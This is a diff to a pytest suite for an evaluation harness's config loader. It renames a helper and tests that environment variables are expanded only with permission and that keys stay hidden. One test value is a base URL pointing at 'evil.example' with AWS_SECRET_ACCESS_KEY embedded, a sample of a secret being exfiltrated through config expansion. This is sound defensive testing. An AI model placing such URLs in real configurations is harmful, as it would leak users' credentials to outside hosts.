@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 from command_line import harness
-from loopback import completion, serving
+from loopback import completion, serve
 
 from harness import config, pipeline
 from harness.errors import ConfigError, hide_keys
@@ -24,7 +24,7 @@ def write_config(folder: Path, model: str, more: str = "") -> Path:
     return path
 
 
-def served(**options: str) -> str:
+def describe_model(**options: str) -> str:
     given = {"base_url": "http://127.0.0.1:9/v1", **options}
     return "{kind: openai_api, model: m, " + ", ".join(f"{key}: {value}" for key, value in given.items()) + "}"
 
@@ -32,10 +32,10 @@ def served(**options: str) -> str:
 @pytest.mark.parametrize(
     ("model", "name"),
     [
-        (served(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"), "AWS_SECRET_ACCESS_KEY"),
-        (served(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"), "DATABASE_URL"),
+        (describe_model(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"), "AWS_SECRET_ACCESS_KEY"),
+        (describe_model(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"), "DATABASE_URL"),
         ("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
-        (served() + "\nprompts: {plain: '{{ article.text }} ${MONGODB_URI}'}", "MONGODB_URI"),
+        (describe_model() + "\nprompts: {plain: '{{ article.text }} ${MONGODB_URI}'}", "MONGODB_URI"),
     ],
 )
 def test_variable_is_used_only_if_the_user_lists_it(
@@ -58,7 +58,7 @@ def test_harness_variables_and_keys_ending_in_env_are_always_filled(
     monkeypatch.setenv("WHERE", "MISTRAL_API_KEY")
     monkeypatch.setenv("MISTRAL_API_KEY", "a-key")
     monkeypatch.delenv("TOKENS", raising=False)
-    model = served(model="'${HARNESS_MODEL}'", api_key_env="'${WHERE}'", max_new_tokens="'${TOKENS:-80}'")
+    model = describe_model(model="'${HARNESS_MODEL}'", api_key_env="'${WHERE}'", max_new_tokens="'${TOKENS:-80}'")
     loaded = config.load(write_config(tmp_path, model.replace("model: m, ", ""))).models["m"].model_dump()
     found = [loaded[key] for key in ("model", "api_key_env", "max_new_tokens")]
     assert found == ["wise", "MISTRAL_API_KEY", 80], "the default of an unset variable needs no permission"
@@ -82,9 +82,9 @@ def test_api_key_env_accepts_only_names_of_server_keys(
 ) -> None:
     for usual in ("MISTRAL_API_KEY", "OTHER_KEY", "HF_TOKEN", "REPLICATE_API_TOKEN", "HARNESS_JUDGE"):
         monkeypatch.setenv(usual, "the-value")
-        config.load(write_config(tmp_path, served(api_key_env=usual)))
+        config.load(write_config(tmp_path, describe_model(api_key_env=usual)))
     monkeypatch.setenv(name, "the-value")
-    path = write_config(tmp_path, served(api_key_env=name))
+    path = write_config(tmp_path, describe_model(api_key_env=name))
     with pytest.raises(ConfigError, match=f"HARNESS_ALLOW_ENV={name}"):
         config.load(path)
     monkeypatch.setenv("HARNESS_ALLOW_ENV", name)
@@ -106,7 +106,7 @@ def test_api_key_env_accepts_only_names_of_server_keys(
 )
 @pytest.mark.parametrize("place", ["file", "--set"])
 def test_address_that_is_invalid_or_has_a_key_is_refused_and_not_repeated(tmp_path: Path, url: str, place: str) -> None:
-    path = write_config(tmp_path, served(base_url=f"'{url}'") if place == "file" else served())
+    path = write_config(tmp_path, describe_model(base_url=f"'{url}'") if place == "file" else describe_model())
     result = harness("validate", path, *(("--set", f"models.m.base_url={url}") if place == "--set" else ()))
     assert result.exit_code == 2
     assert "t0psecret" not in result.output
@@ -116,7 +116,7 @@ def test_address_that_is_invalid_or_has_a_key_is_refused_and_not_repeated(tmp_pa
 @pytest.mark.parametrize("override", [KEY, f"models.m.max_new_tokens={KEY}", f"models.m.kind={KEY}", f"limit={KEY}",
                                       f"models.m.extra.x={KEY}", f"{KEY}=1"])  # fmt: skip  # one list
 def test_key_on_the_command_line_is_refused_and_not_repeated(tmp_path: Path, override: str) -> None:
-    result = harness("validate", write_config(tmp_path, served()), "--set", override)
+    result = harness("validate", write_config(tmp_path, describe_model()), "--set", override)
     assert result.exit_code == 2
     assert KEY not in result.output
 
@@ -142,7 +142,7 @@ def test_key_of_each_provider_is_hidden(key: str) -> None:
 @pytest.mark.parametrize("name", ["hf_cnn_dailymail.yaml", "sk-learn-summaries-2024", "gsk_news_articles_2024"])
 def test_name_that_begins_like_a_key_is_shown_and_accepted(tmp_path: Path, name: str) -> None:
     assert hide_keys(f"{name}: there is no such file") == f"{name}: there is no such file"
-    config.load(write_config(tmp_path, served(served_as=name)))
+    config.load(write_config(tmp_path, describe_model(served_as=name)))
 
 
 def test_validate_imports_no_foreign_module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -168,11 +168,13 @@ def test_output_outside_the_working_folder_is_a_warning(tmp_path: Path, monkeypa
 
 def test_run_announces_the_host_once_with_its_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("MY_KEY", "value")
-    with serving(lambda *_: completion("Peace.", model="m")) as server:
+    with serve(lambda *_: completion("Peace.", model="m")) as server:
         url = server.url.replace("127.0.0.1", "localhost.localdomain")
         result = harness(
             "run",
-            write_config(tmp_path, served(base_url=f"'{url}'", retries="0", api_key_env="MY_KEY"), "output: out\n"),
+            write_config(
+                tmp_path, describe_model(base_url=f"'{url}'", retries="0", api_key_env="MY_KEY"), "output: out\n"
+            ),
             "-q",
         )
     assert result.output.count(f"harness: asking localhost.localdomain ({url}), with the key in MY_KEY\n") == 1
